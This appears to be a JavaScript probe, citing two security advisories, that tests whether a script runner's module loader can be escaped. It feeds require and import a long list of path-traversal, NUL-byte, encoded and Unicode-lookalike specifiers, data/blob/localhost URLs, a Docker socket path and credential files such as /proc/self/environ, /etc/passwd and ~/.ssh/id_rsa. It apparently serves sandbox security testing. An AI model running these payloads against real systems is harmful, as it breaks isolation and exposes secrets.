// Ways out of the script's folder: absolute, dots, NUL, backslashes, percent, file:, data:, blob:, http:
// (GHSA-7q3f-wx44-378m, GHSA-cp6g-6699-wx9c).
async function execute({ targets }) {
  const { file, port } = targets;
  const dots = '../'.repeat(20);
  const specifiers = [file, `.${file}`, `${dots}${file.slice(1)}`, `./${dots}${file.slice(1)}`, `./plunder.js/${dots}${file.slice(1)}`, `./${file}`, `file://${file}`, `file://localhost${file}`, `FILE:${file}`,
    `${file}\0.js`, `./plunder.js\0/../../..${file}`, encodeURIComponent(file), `./${dots.replaceAll('/', '%2f')}${file}`, `..\\..\\..\\..${file.replaceAll('/', '\\')}`, `.\u2024/${file}`, `\u2025${file}`, `./\uff0e\uff0e/${file}`,
    `data:text/javascript,export default 1`, `data:application/json,{"a":1}`, `blob:nodedata:1`, `http://127.0.0.1:${port}/x.js`, `https://[::1]:${port}/x.mjs`, `//127.0.0.1:${port}/x.js`, `unix:/run/docker.sock`,
    '/proc/self/environ', '/proc/1/cmdline', '/etc/passwd', '/app/runner.js', '.', './', '..', '/', '', '~/.ssh/id_rsa', '#internal', '__proto__', './__proto__', './__proto__.js', 'constructor', './constructor.js', './toString',
    'castellan:import', 'castellan:prelude', 'castellan:hook', 'castellan:bridge', 'hook', 'target', './castellan:hook'];
  const got = [];
  let refused = 0;
  for (const specifier of specifiers) {
    for (const load of [() => require(specifier), () => import(specifier), () => require(new String(specifier)), () => import({ toString: () => specifier })]) {
      try {
        got.push(specifier, JSON.stringify(await load()));
      } catch {
        refused++;
      }
    }
  }
  return { tried: refused, reached: got };
}
